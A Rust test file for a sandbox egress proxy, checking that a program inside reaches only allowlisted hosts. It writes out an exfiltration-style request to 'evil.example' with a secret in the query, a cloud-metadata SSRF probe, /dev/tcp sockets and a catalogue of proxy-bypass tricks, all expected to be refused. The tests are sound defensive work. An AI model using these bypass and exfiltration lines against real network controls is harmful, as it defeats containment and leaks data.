//! The proxy to the hosts that a policy opens, tried from inside a real sandbox with real
//! clients, against a small internet whose names and addresses the test makes up.

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};

use castellan::protocol::progress::Phase;
use castellan::protocol::result::{NetworkRefusal, Returned};
use castellan::runner::{Fixed, Resolve};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::case::Case;

/// What a program of ours does inside: asks the proxy for a tunnel, and greets with a name.
const GREET: &str = r#"
import socket, ssl, sys
place, name = sys.argv[1], sys.argv[2] or None
s = socket.create_connection(("127.0.0.1", 8702))
s.sendall(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode())
s.settimeout(20)
head = s.recv(4096).split(b"\r\n")[0].decode()
if " 200" in head:
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=name)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    s.sendall(o.read() if name != "plain" else b"GET / HTTP/1.1\r\n\r\n")
    try: print(place, name, s.recv(100).decode() or "closed")
    except OSError: print(place, name, "closed")
else: print(place, name, head)
"#;

/// A small internet, and what arrived at its one server.
struct Internet {
    fixed: Arc<Fixed>,
    arrived: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Internet {
    async fn open() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let server = listener.local_addr().unwrap();
        let arrived: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
        let keep = arrived.clone();
        tokio::spawn(async move {
            loop {
                let (mut stream, _) = listener.accept().await.unwrap();
                let mut first = vec![0; 16 * 1024];
                let count = stream.read(&mut first).await.unwrap_or(0);
                first.truncate(count);
                let answer = match &first[..] {
                    [b'G', ..] if first.starts_with(b"GET /away") => {
                        "HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
                    }
                    [b'G' | b'P', ..] => {
                        "HTTP/1.1 200 OK\r\nContent-Length: 11\r\n\r\nfrom afar.\n"
                    }
                    _ => "from afar",
                };
                keep.lock().unwrap().push(first);
                let _ = stream.write_all(answer.as_bytes()).await;
            }
        });
        // All of them lead to the server, so that only a guard keeps a program from it.
        let names: BTreeMap<String, Vec<IpAddr>> = [
            ("registry.example", vec!["93.184.216.34"]),
            ("evil.example", vec!["93.184.216.35"]),
            ("dns.google", vec!["8.8.8.8"]),
            ("metadata.example", vec!["169.254.169.254"]),
            ("inside.example", vec!["127.0.0.1", "::ffff:10.0.0.1"]),
            ("both.example", vec!["10.0.0.1", "93.184.216.34"]),
        ]
        .map(|(name, all)| {
            (
                name.to_owned(),
                all.iter().map(|ip| ip.parse().unwrap()).collect(),
            )
        })
        .into();
        let leads = names
            .values()
            .flatten()
            .flat_map(|ip| [80, 443].map(|port| (SocketAddr::new(*ip, port), server)));
        let leads = leads.collect();
        let fixed = Fixed {
            names,
            leads,
            asked: Mutex::default(),
        };
        Self {
            fixed: Arc::new(fixed),
            arrived,
        }
    }

    /// An agent that runs these lines of a shell, and what came of it; `hosts` are on its list.
    async fn tried(&self, name: &str, hosts: &[&str], lines: &[&str]) -> Option<Returned> {
        let greet = format!("cat >/tmp/greet.py <<'END'\n{GREET}\nEND\n");
        let greets = "greet() { /usr/bin/python3 /tmp/greet.py \"$@\" 2>&1; }\n";
        let tries = "get() { echo \"$*: $(curl -s -m 20 -o /dev/null -w '%{http_connect} %{http_code}' \"$@\")\"; }\n";
        let line = format!("{greet}{greets}{tries}{}", lines.join("\n"));
        let script = json!([{"run": ["/bin/bash", "-c", line]}]);
        let mut case = Case::open(name, script).await?.with_doors();
        case.options.resolve = Resolve::Fixed(self.fixed.clone());
        case.brief.network.agent = hosts.iter().map(|host| (*host).to_owned()).collect();
        let returned = case.work().await;
        Some(returned)
    }

    fn asked(&self) -> Vec<String> {
        self.fixed.asked.lock().unwrap().clone()
    }

    fn arrived(&self) -> usize {
        self.arrived.lock().unwrap().len()
    }
}

fn places(refusals: &[NetworkRefusal]) -> Vec<(&str, u32)> {
    refusals
        .iter()
        .map(|no| (no.place.as_str(), no.count))
        .collect()
}

/// Each of `lines` is one of what was said.
fn said(returned: &Returned, lines: &[&str]) {
    let words = &returned.evidence.words;
    for line in lines {
        assert!(
            words.lines().any(|said| said == *line),
            "{line} in\n{words}"
        );
    }
}

#[tokio::test]
async fn an_open_host_is_reached_and_named() {
    let internet = Internet::open().await;
    let lines = [
        "get http://registry.example/x",
        "get -x http://127.0.0.1:8702 -H 'Proxy-Authorization: Basic eA==' http://REGISTRY.example./y",
        "greet registry.example:443 registry.example",
        "get http://both.example/",
    ];
    let hosts = ["registry.example", "both.example"];
    let Some(returned) = internet
        .tried("an_open_host_is_reached", &hosts, &lines)
        .await
    else {
        return;
    };
    said(
        &returned,
        &[
            "http://registry.example/x: 000 200",
            "registry.example:443 registry.example from afar",
            "http://both.example/: 000 200",
        ],
    );
    let arrived = internet.arrived.lock().unwrap();
    let text = String::from_utf8_lossy(&arrived[0]).to_lowercase();
    assert!(
        text.starts_with("get /x http/1.1\r\n") && text.contains("host: registry.example\r\n"),
        "{text}"
    );
    let text = String::from_utf8_lossy(&arrived[1]).to_lowercase();
    assert!(
        text.starts_with("get /y ") && !text.contains("proxy"),
        "{text}"
    );
    assert!(String::from_utf8_lossy(&arrived[2]).contains("registry.example"));
    assert_eq!(returned.evidence.open_hosts, hosts);
    assert!(returned.evidence.refusals.is_empty());
}

#[tokio::test]
async fn x36_a_host_that_is_not_on_the_list_is_refused() {
    let internet = Internet::open().await;
    let lines = [
        "get http://evil.example/",
        "get http://evil.example/?secret=word",
        "get https://evil.example/",
        // Also by a redirect of one that is on the list.
        "get -L http://registry.example/away",
    ];
    let hosts = ["registry.example"];
    let name = "x36_a_host_that_is_not_on_the_list_is_refused";
    let Some(returned) = internet.tried(name, &hosts, &lines).await else {
        return;
    };
    said(
        &returned,
        &[
            "http://evil.example/: 000 403",
            "https://evil.example/: 403 000",
            "-L http://registry.example/away: 000 403",
        ],
    );
    // A refused name is not even looked up: that, too, would say something to somebody.
    assert_eq!(internet.asked(), ["registry.example"]);
    assert_eq!(internet.arrived(), 1);
    let refusals = &returned.evidence.refusals;
    assert_eq!(
        places(refusals),
        [("evil.example", 3), ("evil.example:443", 1)]
    );
    assert!(
        refusals[0].because.contains("not on the list"),
        "{refusals:?}"
    );
    assert_eq!(refusals[0].phase, Phase::Agent);
}

#[tokio::test]
async fn x35_a_name_that_leads_to_a_private_address_is_refused() {
    let internet = Internet::open().await;
    let lines = [
        "get http://metadata.example/latest/meta-data/",
        "get http://inside.example/",
        "greet metadata.example:443 metadata.example",
    ];
    let hosts = ["metadata.example", "inside.example"];
    let name = "x35_a_name_that_leads_to_a_private_address_is_refused";
    let Some(returned) = internet.tried(name, &hosts, &lines).await else {
        return;
    };
    said(
        &returned,
        &[
            "http://metadata.example/latest/meta-data/: 000 403",
            "http://inside.example/: 000 403",
            "metadata.example:443 metadata.example HTTP/1.1 403 Forbidden",
        ],
    );
    assert_eq!(internet.arrived(), 0);
    assert!(returned.evidence.refusals[0].because.contains("not public"));
}

/// Ways out of all kinds, as lines of a shell.
const WAYS_OUT: &[&str] = &[
    // Past the proxy there is no network: TCP, UDP, IPv6, names, ICMP, git.
    "(exec 3<>/dev/tcp/93.184.216.34/443) 2>&1 | grep -o 'Network is unreachable'",
    "python() { /usr/bin/python3 -c \"import socket; socket.socket($1).sendto(b'x', $2)\" 2>&1 | grep -oE 'unreachable|not permitted'; }",
    "echo udp $(python 'socket.AF_INET, socket.SOCK_DGRAM' \"('8.8.8.8', 53)\")",
    "echo v6 $(python 'socket.AF_INET6, socket.SOCK_DGRAM' \"('2001:4860:4860::8888', 53)\")",
    "echo icmp $(python 'socket.AF_INET, socket.SOCK_RAW, 1' \"('8.8.8.8', 0)\")",
    "NO_PROXY='*' no_proxy='*' get http://registry.example/",
    "echo git $(git ls-remote git://registry.example/x 2>&1 | grep -o 'unable to')",
    // Through it: addresses in all forms, other ports, name servers, users.
    "get http://93.184.216.34/",
    "get -g 'http://[2606:4700::1]/'",
    "get -g 'https://[2606:4700::1]/'",
    "greet 1572395042:443 registry.example",
    "greet 0x5db8d822:443 registry.example",
    "get https://dns.google/dns-query",
    "get -p http://registry.example:9418/",
    "get -p http://registry.example/",
    "get http://registry.example:8080/",
    "greet user@registry.example:443 registry.example",
    // Under a false name.
    "get -H 'Host: evil.example' http://registry.example/",
    "get --connect-to evil.example:443:registry.example:443 https://evil.example/",
    "greet registry.example:443 evil.example",
    "greet registry.example:443 ''",
    "greet registry.example:443 plain",
];

/// What each of them came to.
const CAME_TO: &[&str] = &[
    "Network is unreachable",
    "udp unreachable",
    "v6 unreachable",
    "icmp not permitted",
    "http://registry.example/: 000 000",
    "git unable to",
    "http://93.184.216.34/: 000 403",
    "-g http://[2606:4700::1]/: 000 403",
    "-g https://[2606:4700::1]/: 403 000",
    "1572395042:443 registry.example HTTP/1.1 403 Forbidden",
    "0x5db8d822:443 registry.example HTTP/1.1 403 Forbidden",
    "https://dns.google/dns-query: 403 000",
    "-p http://registry.example:9418/: 403 000",
    "-p http://registry.example/: 403 000",
    "http://registry.example:8080/: 000 403",
    "-H Host: evil.example http://registry.example/: 000 403",
    "registry.example:443 evil.example closed",
    "registry.example:443 None closed",
    "registry.example:443 plain closed",
];

#[tokio::test]
async fn x36_every_other_way_out_is_closed() {
    let internet = Internet::open().await;
    let hosts = ["registry.example", "dns.google"];
    let name = "x36_every_other_way_out_is_closed";
    let Some(returned) = internet.tried(name, &hosts, WAYS_OUT).await else {
        return;
    };
    said(&returned, CAME_TO);
    assert!(
        !returned.evidence.words.contains("afar"),
        "{}",
        returned.evidence.words
    );
    // Tunnels are opened before it is seen that they ask for another; nothing was said in them.
    let arrived = internet.arrived.lock().unwrap();
    assert!(arrived.iter().all(Vec::is_empty), "{arrived:?}");
    let asked = internet.asked();
    assert!(
        asked.iter().all(|name| name == "registry.example"),
        "{asked:?}"
    );
    let refusals = &returned.evidence.refusals;
    let because: Vec<&str> = refusals.iter().map(|no| no.because.as_str()).collect();
    for part in [
        "asks for evil.example",
        "over HTTPS",
        "an address",
        "only the ports",
        "another host",
    ] {
        assert!(
            because.iter().any(|because| because.contains(part)),
            "{part}: {because:?}"
        );
    }
}

#[tokio::test]
async fn x36_a_closed_network_still_sees_what_was_tried() {
    let line = "curl -s http://evil.example/; curl -s http://evil.example/";
    let mut case =
        case!("x36_a_closed_network_still_sees", [{"run": ["/bin/sh", "-c", line]}]).with_doors();
    let flood =
        "for i in $(seq 150); do echo \"url=http://h$i.example/\"; done | curl -s -K - >/dev/null";
    case.brief.contract.setup = vec![flood.to_owned()];
    let returned = case.work().await;
    assert!(
        returned
            .evidence
            .words
            .contains("castellan: the host is not on the list")
    );
    let refusals = &returned.evidence.refusals;
    assert_eq!(refusals.len(), 50 + 1, "bounded for each phase");
    assert_eq!(refusals[0].phase, Phase::Setup);
    let count: u32 = refusals.iter().map(|no| no.count).sum();
    assert_eq!(count, 152, "all are counted");
}

#[tokio::test]
async fn x36_what_is_refused_is_told_while_the_agent_works() {
    let line = "curl -s http://evil.example/; exec tail -f /dev/null";
    let case =
        case!("x36_what_is_refused_is_told", [{"run": ["/bin/sh", "-c", line]}]).with_doors();
    case.book().stop_at = Some("refused");
    let summary = case.try_work().await.unwrap();
    assert!(
        matches!(summary.ended, castellan::runner::Ended::Stopped { .. }),
        "{summary:?}"
    );
}
